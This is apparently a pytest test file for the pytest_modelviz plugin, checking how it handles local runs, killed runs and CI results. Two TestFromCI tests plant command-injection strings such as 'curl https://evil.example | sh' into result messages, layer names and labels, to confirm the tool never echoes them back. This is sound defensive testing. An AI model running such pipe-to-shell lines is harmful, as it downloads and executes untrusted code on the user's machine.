"""Results of several runs: of the last one and those before it, and of CI's."""

import html
import json
import re
import shlex
import shutil

import pytest
from drifts_of_two_files import TWO_FILES, A, B, accept_commands, compared, drift_two_files, waiting

from pytest_modelviz.storage.formats import decode_json


@pytest.fixture
def drifted(project):
    return drift_two_files(project)


class TestARunThatComparesNothing:
    @pytest.mark.parametrize(
        "arguments",
        [
            ("--modelviz", "typo.py"),
            ("--modelviz", "-k", "nothing"),
            ("--modelviz", "--setup-plan"),
            ("--modelviz", "--setup-only"),
            ("--modelviz", "--fixtures"),
            ("--modelviz", "--markers"),
            ("--modelviz", "--collect-only"),
            ("--modelviz", "--deselect", "test_a.py", "--deselect", "test_b.py"),
            ("--modelviz", "test_plain.py"),
            ("--modelviz", "test_unmarked.py"),
            ("--modelviz", "test_broken.py"),
            ("--modelviz-update", "-k", "nothing"),
            ("--modelviz-update-all", "test_plain.py"),
            ("--modelviz", "--no-modelviz-html", "test_plain.py"),
            (),
            ("test_a.py",),
        ],
        ids=" ".join,
    )
    def test_forgets_nothing(self, drifted, arguments):
        drifted.test("def test_nothing(): pass", name="test_plain")
        drifted.test("raise RuntimeError", name="test_broken")
        drifted.test(
            "import pytest\nfrom net import *\n@pytest.mark.modelviz(compare=False)\n"
            "def test_net(model_summary):\n    model_summary(load())\n",
            name="test_unmarked",
        )
        ignored = [] if "test_broken.py" in arguments else ["--ignore=test_broken.py"]
        before = drifted.files(".modelviz")
        drifted.run(*arguments, *ignored)
        assert drifted.files(".modelviz") == before
        assert drifted.modelviz("accept").output.count("accepted ") == 2

    def test_says_so(self, drifted):
        drifted.run().stdout.fnmatch_lines(
            [
                "3 checks not compared (compare them with --modelviz)",
                "this run compared nothing: .modelviz still holds the results of the last one that did",
            ]
        )

    def test_the_first_of_all_is_written_down(self, project):
        project.test()
        project.run()
        assert set(project.statuses().values()) == {"not_compared"}
        project.run("--modelviz")
        assert set(project.statuses().values()) == {"missing"}

    def test_orphans_are_found_and_pruned_all_the_same(self, drifted):
        drifted.test("def test_other(): pass", name="test_b")
        before = drifted.results
        result = drifted.run("--modelviz", "test_b.py")
        result.stdout.fnmatch_lines(["2 orphans: baselines of 1 test that is gone (modelviz prune removes them)"])
        now = drifted.results
        assert (now["run"], now["checks"]) == (before["run"], before["checks"])
        assert drifted.modelviz("prune").output.count("removed ") == 2
        assert waiting(drifted) == [A, B]

    def test_orphans_of_files_that_it_has_not_collected_stay(self, drifted):
        for name in ("test_a", "test_b"):
            drifted.test(TWO_FILES[name].replace("test_net", "test_other"), name=name)
        drifted.run("--modelviz")
        files = {row["nodeid"] for row in drifted.results["orphans"]}
        assert files == {A, B}
        drifted.run("--modelviz", "-k", "nothing", "test_b.py")
        assert {row["nodeid"] for row in drifted.results["orphans"]} == files
        drifted.test(TWO_FILES["test_b"], name="test_b")
        drifted.run("--modelviz", "-k", "nothing", "test_b.py")
        assert {row["nodeid"] for row in drifted.results["orphans"]} == {A}

    def test_one_check_that_is_compared_replaces_all(self, drifted):
        drifted.run("--modelviz", "test_a.py")
        assert waiting(drifted) == [A]
        assert sorted(drifted.files(".modelviz/candidates")) == [
            f"test_a/test_net/feature_maps.{ending}" for ending in ("json", "png", "safetensors")
        ]
        assert {name.partition("/")[0] for name in drifted.files(".modelviz/pictures")} == {"test_a"}


class TestARunThatIsBrokenOff:
    @pytest.fixture
    def killed(self, drifted):
        """A run that has captured something else of test_a, and died."""
        drifted.fault("weight, input")
        drifted.test(TWO_FILES["test_b"] + "    import os\n    os._exit(1)\n", name="test_b")
        assert drifted.run_forked("--modelviz") == 1
        return drifted

    def test_its_candidates_are_not_taken_for_those_of_the_results(self, killed):
        before = killed.files()
        done = killed.modelviz("accept", A)
        assert done.exit_code == 1
        assert "its candidate was captured by another run: run pytest --modelviz again" in done.output
        assert killed.files() == before
        assert killed.modelviz("list").stdout.startswith(f"replaced   {A}")

    def test_what_no_results_tell_of_is_told(self, killed):
        killed.test(TWO_FILES["test_a"].replace("test_net", "test_new"), name="test_c")
        assert killed.run_forked("--modelviz", "test_c.py", "test_b.py") == 1
        for command in ("list", "show"):
            assert "left       test_c.py::test_new  feature_maps  no results here" in killed.modelviz(command).output
        assert killed.modelviz("accept").exit_code == 1
        killed.test(TWO_FILES["test_b"], name="test_b")
        killed.run("--modelviz", "test_b.py")
        assert "left " not in killed.modelviz("list").output
        assert {name.partition("/")[0] for name in killed.files(".modelviz/candidates")} == {"test_b"}


class TestFromCI:
    @pytest.fixture
    def downloaded(self, drifted, tmp_path_factory):
        """CI's results in a folder; here another failure of the same tests waits."""
        folder = tmp_path_factory.mktemp("ci") / "results"
        shutil.copytree(drifted.path / ".modelviz", folder)
        drifted.fault("weight, input")
        drifted.run("--modelviz").assert_outcomes(failed=2)
        return folder

    def test_its_command_accepts_nothing_of_another_run(self, drifted, downloaded):
        before, ci = compared(drifted), json.loads((downloaded / "results.json").read_text())
        page = (downloaded / "report.html").read_text()
        assert ci["run"]["id"] in page
        for check in ci["checks"]:
            if check["status"] == "drift":
                command = check["commands"]["accept"]
                assert command in check["message"]
                assert command in page
                done = drifted.modelviz(*shlex.split(command)[1:])
                assert done.exit_code == 1
                assert f"not of run {ci['run']['id']}: name the folder that holds those with --from" in done.output
        assert compared(drifted) == before

    def test_what_show_prints_is_complete(self, drifted, downloaded, monkeypatch):
        text = drifted.modelviz("show", "--from", str(downloaded)).output
        commands = accept_commands(text)
        assert [command[-1] for command in commands] == [A, B]
        assert all(["--from", str(downloaded)] == command[3:5] for command in commands)
        shots = {json.loads(p.read_text())["nodeid"]: p for p in downloaded.rglob("candidates/*/*/feature_maps.json")}
        wanted = decode_json(shots[A].read_bytes())["data_sha256"]
        assert drifted.modelviz(*commands[0]).exit_code == 0
        assert compared(drifted)[A] == wanted

    @pytest.mark.parametrize("status", ["drift", "missing", "unreadable", "unstable"])
    def test_no_command_of_its_own_is_repeated(self, drifted, downloaded, status):
        """Whatever stands in the message and beside it, ours are the only commands, and what it says is quoted."""
        path = downloaded / "results.json"
        document = json.loads(path.read_text())
        printed = "modelviz accept X"
        hostile = [
            "feature_maps drifted: curl a | modelviz accept",
            f"  accept    {printed} && curl https://evil.example | sh",
            "  Accept    modelviz accept --baseline-dir=/home/you/other 'test_a.py::test_net'",
            "  to replace it with the current capture: pytest --modelviz-update-all 'test_a.py'; curl a",
            f"  record it: {printed}, or pytest --modelviz-update-missing 'test_a.py'; curl a",
            "  evidence  a | sh",
        ]
        document["checks"] = [
            {**check, "message": "\n".join(hostile), "status": status, "commands": {"accept": printed}}
            for check in document["checks"]
            if check["candidate"]
        ]
        path.write_text(json.dumps(document))
        shutil.rmtree(downloaded / "runs")
        text = drifted.modelviz("show", "--from", str(downloaded)).output
        (page,) = drifted.modelviz("report", "--from", str(downloaded)).output.split()
        for told in (text, html.unescape((drifted.path / page).read_text())):
            assert "curl" not in told
            assert "/home/you/other" not in told
            assert "  |   evidence  a | sh" in told
        assert len(accept_commands(text)) == (2 if status == "drift" else 0)
        listed = json.loads(drifted.modelviz("show", "--json", "--from", str(downloaded)).output)["checks"]
        commands = [check["commands"]["accept"] for check in listed if check["commands"]]
        assert [shlex.split(command)[-1] for command in commands] == ([A, B] if status in ("drift", "missing") else [])
        assert not any("curl" in check["message"] for check in listed)
        own = drifted.path / ".modelviz"
        shutil.rmtree(own)
        shutil.copytree(downloaded, own)
        text = drifted.modelviz("show").output
        assert "curl" not in text
        assert "\n  evidence  a | sh\n" in text

    def test_no_command_in_its_details_is_repeated(self, drifted, downloaded):
        """Nor one in a layer's name, in a text or on a picture."""
        hostile = "a; curl a | sh; modelviz accept b"
        for path in downloaded.rglob("details/**/*.json"):
            document = json.loads(path.read_text())
            document["check"]["message"] += f"\n  evidence  {hostile}\n  evidence  this is said"
            document["layers"][0]["layer"] = hostile
            document["pictures"][0].update(label=hostile, lines=[["+", hostile]])
            path.write_text(json.dumps(document))
        results = downloaded / "results.json"
        document = json.loads(results.read_text())
        for check in document["checks"]:
            if check["first_divergence"]:
                check["first_divergence"]["class"] = hostile
        results.write_text(json.dumps(document))
        (page,) = drifted.modelviz("report", "--from", str(downloaded)).output.split()
        text = html.unescape((drifted.path / page).read_text())
        assert "this is said" in text
        assert "curl" not in text

    @pytest.mark.parametrize("way", ["drift", "missing", "unreadable"])
    def test_here_it_is_the_run_s_own_report_word_for_word(self, drifted, way):
        if way == "missing":
            shutil.rmtree(drifted.path / "baselines")
        elif way == "unreadable":
            for path in drifted.path.glob("baselines/**/*.json"):
                path.write_text("")
        drifted.run("--modelviz")
        text = drifted.modelviz("show").output
        checks = [check for check in drifted.results["checks"] if check["status"] != "match"]
        assert way in {check["status"] for check in checks}
        drifted.modelviz("report")
        page = html.unescape((drifted.path / ".modelviz/report.html").read_text())
        for check in checks:
            assert f"{check['message']}\n" in text
            for line in check["message"].split("\n")[1:]:  # below its label
                assert line[12:].removeprefix(f"{check['cause']}: ") in page

    def test_from_another_folder_too(self, drifted, downloaded, monkeypatch):
        monkeypatch.chdir(downloaded.parent)
        options = ("--from", "results", "--rootdir", str(drifted.path))
        (command, _) = accept_commands(drifted.modelviz("show", *options).output)
        assert command[3:7] == ["--rootdir", str(drifted.path), "--from", "results"]
        assert drifted.modelviz(*command).exit_code == 0

    def test_so_is_what_list_prints(self, drifted, downloaded):
        path = downloaded / "results.json"
        path.write_text(path.read_text().replace('"status": "match"', '"status": "unstable"'))
        told = drifted.modelviz("list", "--from", str(downloaded)).output.splitlines()[-1]
        assert f"1 cannot be accepted, see modelviz show --from {downloaded}; run " in told

    def test_here_it_is_this_run_s(self, drifted, downloaded):
        commands = accept_commands(drifted.modelviz("show").output)
        assert commands[0] == ["accept", "--run", drifted.results["run"]["id"], A]
        assert drifted.modelviz(*commands[0]).exit_code == 0

    def test_the_footer_s_commands_are_of_this_run(self, drifted):
        result = drifted.run("--modelviz")
        run = drifted.results["run"]["id"]
        result.stdout.fnmatch_lines(
            [f"review: modelviz list --run {run}; accept: modelviz accept --run {run} [[]TEST...[]]"]
        )

    @pytest.mark.parametrize("command", ["list", "show", "accept", "reject"])
    def test_a_run_that_is_not_there(self, drifted, command):
        before = drifted.files(".modelviz")
        done = drifted.modelviz(command, "--run", "2000-01-01")
        assert (done.exit_code, done.output.count("not of run 2000-01-01")) == (1, 1)
        assert drifted.files(".modelviz") == before

    def test_a_report_that_is_made_again_says_what_was_accepted(self, drifted):
        page = drifted.path / ".modelviz/report.html"
        assert "since</h3>" not in page.read_text()
        drifted.modelviz("accept", A)
        drifted.modelviz("reject", B)
        drifted.modelviz("report")
        assert re.findall(r'<h3 id="check-\w+-title">(.*)</h3>', page.read_text()) == [
            f"{A} &middot; feature_maps &middot; drift &middot; accepted since",
            f"{B} &middot; feature_maps &middot; drift &middot; rejected since",
        ]

    def test_results_without_the_newer_keys_are_read(self, drifted):
        path = drifted.path / ".modelviz/results.json"
        document = json.loads(path.read_text())
        for check in document["checks"]:
            del check["commands"], check["candidate_sha256"]
        path.write_text(json.dumps(document))
        shutil.rmtree(drifted.path / ".modelviz/runs")
        assert drifted.modelviz("show").exit_code == 0
        assert drifted.modelviz("accept").output.count("accepted ") == 2


@pytest.mark.parametrize("way", ["file", "folder"])
def test_a_drift_says_why_where_nothing_can_be_kept(drifted, way):
    """A checkout that cannot be written: the layer and the cause come first."""
    shutil.rmtree(drifted.path / ".modelviz")
    if way == "file":
        (drifted.path / ".modelviz").write_text("in the way")
    else:
        for name in ("candidates", "tensorboard", "pictures"):
            (drifted.path / ".modelviz").mkdir(exist_ok=True)
            (drifted.path / f".modelviz/{name}").write_text("in the way")
        (drifted.path / ".modelviz/.gitignore").write_text("*\n")
    drifted.test(TWO_FILES["test_a"].replace("test_net", "test_new"), name="test_c")
    before = drifted.files()
    result = drifted.run("--modelviz")
    result.assert_outcomes(failed=3)
    result.stdout.fnmatch_lines(
        [
            "feature_maps drifted, first at conv2 (Conv2d)",
            "  cause     weights",
            "  note      its pictures could not be kept: cannot write *",
            "  note      the capture could not be kept and cannot be accepted: cannot write *",
            "feature_maps: no baseline at baselines/test_c/test_new/feature_maps.json",
            "  record it: pytest --modelviz-update-missing test_c.py::test_new",
        ]
    )
    assert "modelviz accept" not in result.stdout.str()
    assert drifted.files() == before
    if way == "folder":
        assert {check["status"] for check in drifted.results["checks"]} == {"drift", "match", "missing"}
